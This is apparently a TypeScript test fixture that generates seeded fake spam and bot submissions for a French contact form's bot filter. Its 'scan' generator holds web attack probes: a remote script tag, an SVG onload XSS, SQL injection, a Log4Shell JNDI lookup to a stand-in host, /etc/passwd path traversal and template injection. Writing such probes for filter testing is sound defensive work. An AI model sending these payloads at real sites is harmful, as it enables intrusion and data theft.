import { seededRandom } from '../../../drills/sample-submissions';
import type { Written } from './corpus-post';
import type { BotWay } from './read-corpus';

type Bot = Written & { way: BotWay };

/** Robots that write by programme, each with its own chance of everything; the same on every run. */
export function generatedBots(count: number): readonly Bot[] {
  const random = seededRandom(2026);
  const kinds = [randomLetters, linkList, foreignText, offer, blandPost, replay, scan] as const;
  return Array.from({ length: count }, (_, index) =>
    (kinds[index % kinds.length] ?? blandPost)(dice(random), index),
  );
}

type Dice = {
  pick: <Item>(items: readonly [Item, ...Item[]]) => Item;
  number: (from: number, to: number) => number;
  letters: (length: number) => string;
  digits: (length: number) => string;
};

function dice(random: () => number): Dice {
  const number = (from: number, to: number) => from + Math.floor(random() * (to - from + 1));
  const text = (alphabet: string, length: number) =>
    Array.from({ length }, () => alphabet.charAt(number(0, alphabet.length - 1))).join('');
  return {
    number,
    pick: (items) => items[number(0, items.length - 1)] ?? items[0],
    letters: (length) => text('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ', length),
    digits: (length) => text('0123456789', length),
  };
}

const firstnames = [
  'Kevin',
  'Laura',
  'Brandon',
  'Irina',
  'Mei',
  'Oleg',
  'Jessica',
  'Paolo',
  'Thomas',
] as const;
const lastnames = [
  'Walker',
  'Popov',
  'Chen',
  'Bianchi',
  'Schulz',
  'Rivera',
  'Lambert',
  'Kaya',
  'Nagy',
] as const;
const towns = ['Paris', 'London', 'Riom', 'Berlin', 'Boston', 'Lyon', 'Kyiv', 'Clermont-Ferrand'] as const;
const services = ['Peinture', 'Toiture', 'Maçonnerie', 'Plusieurs services'] as const;

function person({ pick, number, digits }: Dice): Omit<Written, 'message'> {
  const [firstname, lastname] = [pick(firstnames), pick(lastnames)];
  return {
    firstname,
    lastname,
    email:
      `${firstname}.${lastname}${number(1, 99)}@${pick(['gmail.com', 'outlook.com', 'mail.ru', 'mailinator.com', 'yahoo.com'])}`.toLowerCase(),
    phone: pick([`0${number(6, 7)}${digits(8)}`, `8${digits(10)}`, `+1202555${digits(4)}`, digits(10)]),
    town: pick(towns),
    service: pick(services),
    urgency: "Pas d'urgence particulière",
  };
}

/** Fields filled with letters, as programmes do that look for forms that answer. */
function randomLetters(luck: Dice): Bot {
  const { letters, number, pick } = luck;
  return {
    ...person(luck),
    way: pick(['scraped', 'scraped', 'bare-ajax', 'scripted']),
    firstname: letters(number(8, 16)),
    lastname: letters(number(8, 16)),
    town: letters(number(6, 12)),
    message: letters(number(12, 24)),
  };
}

function linkList(luck: Dice): Bot {
  const { pick, number, letters } = luck;
  const link = () =>
    `${pick(['https://', 'http://', 'www.'])}${letters(number(5, 9)).toLowerCase()}.${pick(['com', 'top', 'ru', 'xyz', 'info', 'fr'])}/${letters(4)}`;
  const lead = pick(['See also', 'Voir', 'Great deals:', 'Nouveau !', 'Best sites', '']);
  return {
    ...person(luck),
    way: pick(['scraped', 'scripted', 'bare-native', 'scraped']),
    message: [lead, ...Array.from({ length: number(3, 25) }, link)].join(pick([' ', '\n'])),
  };
}

type Words = readonly [string, ...string[]];

const foreign: readonly [Words, ...Words[]] = [
  [
    'Добрый день',
    'предлагаем',
    'услуги',
    'продвижение',
    'сайтов',
    'скидка',
    'заработок',
    'казино',
    'кредит',
    'звоните',
  ],
  ['您好', '我们公司', '提供', '优质', '产品', '价格', '优惠', '欢迎', '联系', '微信'],
  ['مرحبا', 'نقدم', 'خدمات', 'تسويق', 'عروض', 'خاصة', 'تواصل', 'معنا', 'الآن', 'مجانا'],
  ['สวัสดี', 'คาสิโน', 'ออนไลน์', 'โบนัส', 'ฟรี', 'สมัคร', 'เดี๋ยวนี้'],
  ['こんにちは', '限定', '無料', '副業', '登録', '今すぐ', '収入'],
];

function foreignText(luck: Dice): Bot {
  const { pick, number } = luck;
  const words = pick(foreign);
  return {
    ...person(luck),
    way: pick(['scraped', 'scripted', 'tokened']),
    message: Array.from({ length: number(6, 40) }, () => pick([words[0], ...words])).join(' '),
  };
}

const openings = ['Hi,', 'Hello there,', 'Bonjour,', 'Good morning,', 'Hey,'] as const;
const claims = [
  'I was looking at your website and noticed it could rank much higher on Google.',
  'Votre site internet manque de visibilité sur Google.',
  'We can double your organic traffic in three months.',
  'our investors are looking for projects like yours, funding up to $2,000,000.',
  'you can earn up to €900 per day with our crypto robot.',
  'nous vous proposons un crédit sans protocole au taux de 2 %.',
  'we build modern websites and mobile apps at a fraction of the price.',
  'je vous propose 500 fans Facebook et des avis Google 5 étoiles.',
  'get 100 free spins at our online casino today.',
  'our SEO experts found 37 errors on your website.',
] as const;
const endings = [
  'Reply to this email for a free audit.',
  'WhatsApp: +44 0000 000000',
  'Visit https://offer.example/start',
  'Répondez OUI pour en savoir plus.',
  'Can we book a call this week?',
  'Cliquez ici : http://offre.example',
  'Unsubscribe: https://offer.example/stop',
] as const;

function offer(luck: Dice): Bot {
  const { pick } = luck;
  const message = `${pick(openings)} ${pick(claims)} ${pick(claims)} ${pick(endings)}`;
  return { ...person(luck), way: pick(['scraped', 'scraped', 'scripted', 'tokened']), message };
}

const bland = [
  'Bonjour, je souhaite un devis.',
  'Hello',
  'Je suis intéressé par vos services.',
  'Please contact me',
  'Pouvez-vous me rappeler ?',
  'Devis peinture svp',
  'test',
  'Info',
  'Bonjour, quel est le prix pour une toiture de 100 m² ?',
] as const;

/** Nothing in the words: only that no page of the site sent it. */
function blandPost(luck: Dice): Bot {
  const { pick } = luck;
  return { ...person(luck), way: pick(['bare-ajax', 'bare-native', 'honey', 'fast']), message: pick(bland) };
}

/** One request that somebody recorded, sent again and again with another name on it. */
function replay(luck: Dice, index: number): Bot {
  return {
    ...person(luck),
    way: 'replayed',
    phone: '0639980000',
    message:
      index % 2 === 0
        ? 'Bonjour, il me faudrait un devis pour refaire la toiture de mon garage, environ 40 m². Merci.'
        : 'Nous cherchons un peintre pour un appartement de quatre pièces à Clermont-Ferrand. Merci de rappeler.',
  };
}

/** Scanners that look for holes. */
function scan(luck: Dice): Bot {
  const { pick, number, digits } = luck;
  const probes = [
    `<script src=//x${digits(4)}.example/a.js></script>`,
    `"><svg/onload=alert(${digits(3)})>`,
    `' OR '1'='1' UNION SELECT NULL,${digits(2)}--`,
    `\${jndi:dns://${digits(6)}.scan.example}`,
    `../../../../etc/passwd%00${digits(2)}`,
    `{{${number(2, 9)}*${number(2, 9)}}}`,
    `<a href="http://x${digits(3)}.example">cheap</a> [url=http://x${digits(3)}.example]pills[/url]`,
  ] as const;
  const probe = pick(probes);
  return {
    ...person(luck),
    way: pick(['scraped', 'scripted', 'bare-native']),
    lastname: pick([probe, 'Test']),
    message: probe,
  };
}
